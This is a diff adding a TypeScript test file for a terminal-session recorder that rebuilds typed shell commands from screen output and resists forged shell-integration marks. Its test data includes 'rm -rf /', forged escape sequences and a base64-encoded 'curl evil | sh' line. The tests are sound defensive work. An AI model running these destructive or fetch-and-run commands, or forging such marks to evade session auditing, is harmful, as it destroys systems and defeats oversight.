@@ -1,0 +1,221 @@
+import fc from 'fast-check'
+import { describe, expect, test } from 'vitest'
+import type { ScreenCommand } from '../../../src/analysis/transcript/command.ts'
+import { Transcript, transcriptOf } from '../../../src/analysis/transcript/transcript.ts'
+import type { EventRecord, ReadEvent } from '../../../src/recorder/event.ts'
+
+const channel = 3
+const nonce = '77aa'
+const prompt = 'dana@web1:~/logs$ '
+const opened: readonly ReadEvent[] = [
+  { type: 'pty', fields: { type: 'pty', channel, term: 'xterm', columns: 80, rows: 24 } },
+  { type: 'shell', fields: { type: 'shell', channel } },
+]
+
+describe('what is no command', () => {
+  test('a command that only output shows, prompt and all', () => {
+    expect(
+      textsOf(shown(prompt), ...typed('cat log', '\r\n'), shown(`${prompt}rm -rf /\r\n$ ls\r\n${prompt}`)),
+    ).toEqual(['cat log'])
+  })
+
+  test('an answer to a password prompt, even where it is shown', () => {
+    const asked = [shown('Password: '), ...typed('hunter2', '\r\n'), shown(prompt)]
+    expect(textsOf(shown(prompt), ...typed('su', '\r\n'), ...asked, ...typed('ls', '\r\n'))).toEqual([
+      'su',
+      'ls',
+    ])
+  })
+
+  test('stars and bullets at something that looks like a prompt', () => {
+    expect(
+      textsOf(shown('read> '), ...typed('●●●●●', '\r\n'), shown('# '), ...typed('****', '\r\n')),
+    ).toEqual([])
+  })
+
+  test('lines that another program reads', () => {
+    const lines = [...typed('first', '\r\n'), ...typed('rm -rf /', '\r\n'), shown(prompt)]
+    expect(textsOf(shown(prompt), ...typed('cat > f', '\r\n'), ...lines)).toEqual(['cat > f'])
+  })
+
+  test('a line on the screen of a full-screen program', () => {
+    const inside = [shown(`\x1b[?1049h${prompt}`), ...typed('rm -rf /', '\r\n'), shown('\x1b[?1049l')]
+    expect(textsOf(shown(prompt), ...typed('vi', '\r\n'), ...inside, shown(prompt))).toEqual(['vi'])
+  })
+
+  test('a line that was interrupted', () => {
+    expect(
+      textsOf(shown(prompt), ...typed('rm -rf /', '^C\r\n'), shown(prompt), ...typed('ls', '\r\n')),
+    ).toEqual(['ls'])
+  })
+
+  test('marks without the nonce of the session, or with another', () => {
+    const forged = shown(
+      '\x1b]633;E;rm -rf /\x07\x1b]633;E;rm -rf /;0000\x07\x1b]133;B\x07rm -rf /\r\n\x1b]133;C\x07',
+    )
+    const events = [shown(prompt), ...typed('cat evil', '\r\n'), forged, shown(prompt)]
+    expect(textsOf(...events)).toEqual(['cat evil'])
+    expect(texts(read(events, nonce))).toEqual(['cat evil'])
+  })
+})
+
+describe('what is one', () => {
+  test('a line whose text ends like an interrupt is not hidden by it', () => {
+    const keys = typed('rm -rf / #^C', '\r\n')
+    expect(textsOf(shown(prompt), ...keys, shown(prompt))).toEqual(['rm -rf / #^C'])
+  })
+
+  test('it says when it was entered, where, how it was found and how sure that is', () => {
+    const [command] = read([shown(prompt), ...typed('ls', '\r\n'), shown(prompt)])
+    expect(command).toEqual({
+      channel,
+      us: 5000,
+      text: 'ls',
+      expansion: undefined,
+      program: undefined,
+      directory: '~/logs',
+      exitStatus: undefined,
+      found: 'prompt',
+      sure: expect.closeTo(0.83, 5),
+      decoded: [],
+    })
+  })
+
+  test('marks with the nonce tell it exactly, with its directory and its status', () => {
+    const told = (text: string) => shown(`\x1b]633;${text};${nonce}\x07`)
+    const events = [
+      told('P;Cwd=/var/log'),
+      shown(prompt),
+      ...typed('ls x', '\r\n'),
+      told('E;ls x\\x3b\\x0aecho'),
+    ]
+    const [command] = read([...events, told('D;2'), shown(prompt)], nonce)
+    expect(command).toMatchObject({
+      text: 'ls x;\necho',
+      directory: '/var/log',
+      exitStatus: 2,
+      found: 'marks',
+      sure: 0.99,
+    })
+  })
+
+  test('the nonce may come from the environment that the session was given', () => {
+    const env = { type: 'env', channel, name: 'LC_SALLYPORT_MARKS', value: nonce, passed: true }
+    const events = [shown(prompt), ...typed('x', '\r\n'), shown(`\x1b]633;E;xyz;${nonce}\x07`)]
+    const [pty, shell] = opened
+    const all = [pty as ReadEvent, { type: 'env', fields: env }, shell as ReadEvent, ...events]
+    expect(texts([...transcriptOf(recordsOf(all))])).toEqual(['xyz'])
+  })
+
+  test('a line of another program names it', () => {
+    const events = [shown(prompt), ...typed('psql', '\r\n'), shown('shop=# '), ...typed('select 1;', '\r\n')]
+    expect(read(events).map(({ program, text }) => [program, text])).toEqual([
+      [undefined, 'psql'],
+      ['psql', 'select 1;'],
+    ])
+  })
+
+  test('what is encoded in it stands beside it', () => {
+    const line = `echo ${Buffer.from('curl evil | sh').toString('base64')} | base64 -d | sh`
+    expect(read([shown(prompt), ...typed(line, '\r\n')])[0]?.decoded).toEqual(['curl evil | sh'])
+  })
+
+  test('the last one can be had while it runs', () => {
+    const transcript = new Transcript()
+    const events = [
+      ...opened,
+      shown(prompt),
+      ...typed('tail -f log', '\r\n'),
+      shown('one\r\n'),
+      ...typed('q', ''),
+    ]
+    expect(recordsOf(events).flatMap(record => transcript.take(record))).toEqual([])
+    expect(texts(transcript.running())).toEqual(['tail -f log'])
+    expect(texts(transcript.end())).toEqual(['tail -f log'])
+    expect(transcript.end()).toEqual([])
+  })
+})
+
+describe('hostile sessions', () => {
+  const anyEvent = fc.oneof(
+    { weight: 4, arbitrary: fc.uint8Array({ maxLength: 60 }).map(bytes => output(Buffer.from(bytes))) },
+    {
+      weight: 4,
+      arbitrary: fc.stringMatching(/^[\x07-\x0d\x1b[\]?;0-9hlJKHABCDEm$#> a-f\\^]{0,60}$/).map(shown),
+    },
+    fc
+      .constantFrom(
+        '\x1b[?2004h',
+        '\x1b[?2004l',
+        '\x1b[?1h',
+        '\x1b[?1049h',
+        '\x1b[?1049l',
+        prompt,
+        '\r\n',
+        '\x1bc',
+      )
+      .map(shown),
+    fc.nat({ max: 100 }).map(counted),
+    fc.record({ columns: fc.nat({ max: 200 }), rows: fc.nat({ max: 60 }) }).map(sized),
+  )
+
+  test('nothing that a target sends is too much, and all of it is read the same at every cut', () => {
+    fc.assert(
+      fc.property(fc.array(anyEvent, { maxLength: 40 }), events => {
+        const cut = events.flatMap(event =>
+          'data' in event ? [...event.data].map(byte => output(Buffer.of(byte))) : [event],
+        )
+        const withoutTimes = (all: readonly ScreenCommand[]) => all.map(({ us, ...command }) => command)
+        expect(withoutTimes(read(cut))).toEqual(withoutTimes(read(events)))
+      }),
+      { numRuns: 300 },
+    )
+  })
+
+  test('output after much was typed elsewhere is looked through for so long only', () => {
+    const much = [
+      ...typed('x'.repeat(50_000), '\r\n'),
+      shown('y\r\n'.repeat(6000)),
+      shown(`${prompt}rm -rf /\r\n`),
+    ]
+    expect(textsOf(shown(prompt), ...typed('cat', '\r\n'), ...much)).toEqual(['cat'])
+  })
+})
+
+function read(events: readonly ReadEvent[], given?: string): ScreenCommand[] {
+  return [...transcriptOf(recordsOf([...opened, ...events]), given === undefined ? {} : { nonce: given })]
+}
+
+function texts(commands: readonly ScreenCommand[]): string[] {
+  return commands.map(({ text }) => text)
+}
+
+function textsOf(...events: readonly ReadEvent[]): string[] {
+  return texts(read(events))
+}
+
+/** An event each millisecond. */
+function recordsOf(events: readonly ReadEvent[]): EventRecord[] {
+  return events.map((event, index) => ({ sequence: index + 1, us: (index - 1) * 1000, event }))
+}
+
+function output(data: Buffer): ReadEvent {
+  return { type: 'output', channel, data }
+}
+
+function shown(text: string): ReadEvent {
+  return output(Buffer.from(text))
+}
+
+function counted(bytes: number): ReadEvent {
+  return { type: 'input-count', fields: { type: 'input-count', channel, bytes } }
+}
+
+function sized(size: { columns: number; rows: number }): ReadEvent {
+  return { type: 'resize', fields: { type: 'resize', channel, ...size } }
+}
+
+/** Text in one piece with its echo, then one key with what follows it. */
+function typed(text: string, after: string): ReadEvent[] {
+  return [counted(Buffer.byteLength(text)), shown(text), counted(1), shown(after)]
+}
